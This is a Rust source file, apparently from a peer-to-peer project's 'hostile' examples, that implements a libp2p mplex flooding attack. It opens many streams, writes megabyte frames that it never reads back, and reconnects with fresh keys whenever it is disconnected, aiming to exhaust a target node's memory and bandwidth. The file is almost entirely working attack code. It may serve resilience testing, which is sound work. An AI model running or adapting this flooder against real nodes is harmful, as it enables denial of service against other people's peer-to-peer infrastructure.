// p2p/examples/hostile/mplex.rs - peers that speak mplex, which has no flow control: they send for ever and never read.

use std::future::{ready, Ready};
use std::io;
use std::iter;
use std::pin::Pin;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;
use std::task::{Context, Poll};
use std::time::Duration;

use futures::{AsyncRead, AsyncWrite, AsyncWriteExt};
use libp2p::core::muxing::{StreamMuxer, StreamMuxerEvent, SubstreamBox};
use libp2p::core::transport::{DialOpts, PortUse};
use libp2p::core::upgrade::{InboundConnectionUpgrade, OutboundConnectionUpgrade, UpgradeInfo, Version};
use libp2p::core::Endpoint;
use libp2p::identity::Keypair;
use libp2p::{noise, tcp, Multiaddr, Transport};

use crate::{varint, MIB};

const STREAMS: usize = 64;
/// A MiB each: so many some muxers keep for a stream before they give it up.
const KEPT_FRAMES: usize = 30;
const PING: &[u8] = b"/ipfs/ping/1.0.0\n";

/// Agrees on mplex and hands out the connection as it is.
#[derive(Clone)]
struct Raw;

struct RawMuxer<C>(C);

impl UpgradeInfo for Raw {
    type Info = &'static str;
    type InfoIter = iter::Once<&'static str>;

    fn protocol_info(&self) -> Self::InfoIter {
        iter::once("/mplex/6.7.0")
    }
}

impl<C> InboundConnectionUpgrade<C> for Raw {
    type Output = RawMuxer<C>;
    type Error = io::Error;
    type Future = Ready<io::Result<RawMuxer<C>>>;

    fn upgrade_inbound(self, socket: C, _: &'static str) -> Self::Future {
        ready(Ok(RawMuxer(socket)))
    }
}

impl<C> OutboundConnectionUpgrade<C> for Raw {
    type Output = RawMuxer<C>;
    type Error = io::Error;
    type Future = Ready<io::Result<RawMuxer<C>>>;

    fn upgrade_outbound(self, socket: C, _: &'static str) -> Self::Future {
        ready(Ok(RawMuxer(socket)))
    }
}

/// Nobody asks it for streams: it is here because a transport wants a muxer.
impl<C> StreamMuxer for RawMuxer<C> {
    type Substream = SubstreamBox;
    type Error = io::Error;

    fn poll_inbound(self: Pin<&mut Self>, _: &mut Context<'_>) -> Poll<io::Result<SubstreamBox>> {
        Poll::Pending
    }

    fn poll_outbound(self: Pin<&mut Self>, _: &mut Context<'_>) -> Poll<io::Result<SubstreamBox>> {
        Poll::Pending
    }

    fn poll(self: Pin<&mut Self>, _: &mut Context<'_>) -> Poll<io::Result<StreamMuxerEvent>> {
        Poll::Pending
    }

    fn poll_close(self: Pin<&mut Self>, _: &mut Context<'_>) -> Poll<io::Result<()>> {
        Poll::Ready(Ok(()))
    }
}

/// A frame of a stream that we have opened; kind 0 opens it, 2 has data.
fn frame(stream: usize, kind: usize, data: &[u8]) -> Vec<u8> {
    [&varint(stream << 3 | kind)[..], &varint(data.len()), data].concat()
}

/// The first stream speaks a protocol that does not read on before its answers are taken, the others never say which.
async fn send_for_ever(mut socket: impl AsyncRead + AsyncWrite + Unpin, sent: &AtomicU64) -> io::Result<()> {
    let hello = [&[19][..], b"/multistream/1.0.0\n"].concat();
    let ping = [&hello[..], &[PING.len() as u8], PING].concat();
    for stream in 0..STREAMS {
        socket.write_all(&frame(stream, 0, b"")).await?;
        socket.write_all(&frame(stream, 2, if stream == 0 { &ping } else { &hello })).await?;
    }
    let data = vec![0x5a; MIB];
    let first = iter::repeat_n(0, KEPT_FRAMES);
    for stream in first.chain((1..STREAMS).cycle()) {
        socket.write_all(&frame(stream, 2, &data)).await?;
        sent.fetch_add(MIB as u64, Ordering::Relaxed);
    }
    Ok(())
}

/// One peer that comes again whenever it was thrown out.
pub async fn attack(address: Multiaddr, connections: Arc<AtomicU64>, sent: Arc<AtomicU64>) {
    loop {
        let keypair = Keypair::generate_secp256k1();
        let mut transport = tcp::tokio::Transport::new(tcp::Config::default())
            .upgrade(Version::V1)
            .authenticate(noise::Config::new(&keypair).expect("noise"))
            .multiplex(Raw);
        let options = DialOpts { role: Endpoint::Dialer, port_use: PortUse::New };
        let dialled = match transport.dial(address.clone(), options) {
            Ok(dialling) => tokio::time::timeout(Duration::from_secs(10), dialling).await,
            Err(error) => panic!("{error}"),
        };
        if let Ok(Ok((_, RawMuxer(socket)))) = dialled {
            connections.fetch_add(1, Ordering::Relaxed);
            let _ = send_for_ever(socket, &sent).await;
        }
        tokio::time::sleep(Duration::from_millis(500)).await;
    }
}
